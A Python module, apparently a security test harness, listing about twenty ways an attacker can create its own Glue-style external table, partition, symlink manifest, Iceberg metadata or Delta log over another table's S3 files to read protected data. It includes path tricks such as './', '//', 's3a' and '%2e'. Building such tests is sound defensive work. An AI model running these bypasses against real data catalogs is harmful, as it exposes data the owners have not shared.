"""Ways to a table's files around the table: each makes a table of the attacker's own over the same files, and reads it.

An attack gets the world and the attacker's database, makes what it needs with the attacker's keys, and returns the SQL that
shows the secret if nothing stops it. A refusal on the way there is an answer, too.
"""

import json
import uuid
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any, Protocol

__all__ = ["ATTACKS", "COLUMNS", "SECRET", "Attacker"]

SECRET = "4111111111111111"
COLUMNS = [{"Name": "id", "Type": "bigint"}, {"Name": "card", "Type": "string"}]
_HIVE = "org.apache.hadoop.hive.ql.io"
_PARQUET = {
    "InputFormat": f"{_HIVE}.parquet.MapredParquetInputFormat",
    "OutputFormat": f"{_HIVE}.parquet.MapredParquetOutputFormat",
    "SerdeInfo": {"SerializationLibrary": f"{_HIVE}.parquet.serde.ParquetHiveSerDe"},
}


class Attacker(Protocol):
    """Who attacks: ``database`` and the folder ``s3://lk/NAME/`` are its own, ``lake`` is the folder of the buckets."""

    name: str

    @property
    def database(self) -> str:
        """Its own database."""

    @property
    def lake(self) -> Path:
        """The folder of the buckets."""

    @property
    def ice(self) -> str:
        """The metadata file of the Iceberg table at ``s3://lk/secret/ice``."""

    def glue(self) -> Any:
        """Return boto3's client with the attacker's keys."""

    def write(self, key: str, data: bytes) -> str:
        """Write an object to the attacker's own folder; return its location."""


def plain(location: str) -> Callable[[Attacker], str]:
    """Return the attack by a table at ``location``."""

    def attack(by: Attacker) -> str:
        return _table(by, storage={"Location": location})

    return attack


def template(by: Attacker) -> str:
    parameters = {
        "projection.enabled": "true",
        "projection.part.type": "enum",
        "projection.part.values": "f",
        "storage.location.template": "s3://lk/secret/${part}/",
    }
    return _table(by, storage={"Location": f"s3://lk/{by.name}/t/"}, parameters=parameters, keys=True)


def partition(by: Attacker) -> str:
    sql = _table(by, storage={"Location": f"s3://lk/{by.name}/p/"}, keys=True)
    storage = {"Columns": COLUMNS, **_PARQUET, "Location": "s3://lk/secret/f/"}
    expected = {"Values": ["f"], "StorageDescriptor": storage}
    by.glue().create_partition(DatabaseName=by.database, TableName=sql.rpartition(".")[2], PartitionInput=expected)
    return sql


def symlinks(by: Attacker) -> str:
    place = by.write("links/manifest", b"s3://lk/secret/f/rows.parquet\n").rpartition("/")[0]
    return _table(by, storage={"Location": f"{place}/", "InputFormat": f"{_HIVE}.SymlinkTextInputFormat"})


def foreign_symlinks(by: Attacker) -> str:
    """The list of files itself is foreign: an error that quotes a line of it would show it."""
    return _table(by, storage={"Location": "s3://lk/secret/text/", "InputFormat": f"{_HIVE}.SymlinkTextInputFormat"})


def created_metadata(by: Attacker) -> str:
    parameters = {"table_type": "ICEBERG", "metadata_location": by.ice}
    return _table(by, storage={"Location": f"s3://lk/{by.name}/i/"}, parameters=parameters)


def updated_metadata(by: Attacker) -> str:
    sql = _table(by, storage={"Location": f"s3://lk/{by.name}/u/"})
    parameters = {"table_type": "ICEBERG", "metadata_location": by.ice}
    storage = {"Columns": COLUMNS, **_PARQUET, "Location": f"s3://lk/{by.name}/u/"}
    shape = {"Name": sql.rpartition(".")[2], "TableType": "EXTERNAL_TABLE", "Parameters": parameters}
    by.glue().update_table(DatabaseName=by.database, TableInput={**shape, "StorageDescriptor": storage})
    return sql


def foreign_manifests(by: Attacker) -> str:
    place = own_metadata(by)
    return _table(
        by, storage={"Location": f"s3://lk/{by.name}/m/"}, parameters={"table_type": "ICEBERG", "metadata_location": place}
    )


def own_metadata(by: Attacker) -> str:
    """Write metadata of the attacker's own that names the manifests of the other table; return its location."""
    document = json.loads((by.lake / by.ice.removeprefix("s3://")).read_bytes())
    document |= {"location": f"s3://lk/{by.name}/m", "table-uuid": str(uuid.uuid4()), "metadata-log": []}
    return by.write("m/metadata/00000-own.metadata.json", json.dumps(document).encode())


def delta(path: str) -> Callable[[Attacker], str]:
    """Return the attack by a Delta log that names the file ``path``."""

    def attack(by: Attacker) -> str:
        source = by.lake / "lk" / "secret" / "f" / "rows.parquet"
        fields = [{"name": "id", "type": "long"}, {"name": "card", "type": "string"}]
        schema = {"type": "struct", "fields": [{**field, "nullable": True, "metadata": {}} for field in fields]}
        actions: list[Mapping[str, Any]] = [
            {"protocol": {"minReaderVersion": 1, "minWriterVersion": 2}},
            {"metaData": {"id": "x", "format": {"provider": "parquet"}, "schemaString": json.dumps(schema)}},
            {"add": {"path": path, "size": source.stat().st_size, "partitionValues": {}}},
        ]
        log = "\n".join(json.dumps(action) for action in actions)
        place = by.write("d/_delta_log/00000000000000000000.json", log.encode()).rpartition("/_delta_log")[0]
        return _table(by, storage={"Location": place}, parameters={"table_type": "DELTA"})

    return attack


def delta_by_path(by: Attacker) -> str:
    serde = {"SerializationLibrary": "x", "Parameters": {"path": "s3://lk/secret/delta"}}
    return _table(
        by,
        storage={"Location": f"s3://lk/{by.name}/e/", "SerdeInfo": serde},
        parameters={"spark.sql.sources.provider": "delta"},
    )


def metadata_table(by: Attacker) -> str:
    sql = created_metadata(by)
    return f'SELECT file_path FROM "{by.database}"."{sql.rpartition(".")[2]}$files"'


def _table(
    by: Attacker, *, storage: Mapping[str, Any], parameters: Mapping[str, str] | None = None, keys: bool = False
) -> str:
    """Make a table in the attacker's database; return the SELECT of it."""
    name = f"t{uuid.uuid4().hex[:8]}"
    shape: dict[str, Any] = {
        "Name": name,
        "TableType": "EXTERNAL_TABLE",
        "Parameters": dict(parameters or {}),
        "StorageDescriptor": {"Columns": COLUMNS, **_PARQUET, **storage},
    }
    if keys:
        shape["PartitionKeys"] = [{"Name": "part", "Type": "string"}]
    by.glue().create_table(DatabaseName=by.database, TableInput=shape)
    return f"SELECT * FROM {by.database}.{name}"


ATTACKS: Mapping[str, Callable[[Attacker], str]] = {
    "the same location": plain("s3://lk/secret/f/"),
    "a dot": plain("s3://lk/./secret/f/"),
    "a dot inside": plain("s3://lk/secret/./f"),
    "two slashes": plain("s3://lk/secret//f/"),
    "Hadoop's scheme": plain("s3a://lk/secret/f/"),
    "the parent folder": plain("s3://lk/secret/only"),
    "one file": plain("s3://lk/secret/f/rows.parquet"),
    "an Iceberg table's data": plain("s3://lk/secret/ice/data/"),
    "a location template": template,
    "a partition's own location": partition,
    "a list of files": symlinks,
    "a foreign list of files": foreign_symlinks,
    "CreateTable with metadata_location": created_metadata,
    "UpdateTable with metadata_location": updated_metadata,
    "own metadata with foreign manifests": foreign_manifests,
    "a metadata table": metadata_table,
    "a Delta log with an absolute path": delta("s3://lk/secret/f/rows.parquet"),
    "a Delta log with a path encoded": delta("s3://lk/%2e/secret/f/rows.parquet"),
    "a Delta table by its path": delta_by_path,
}
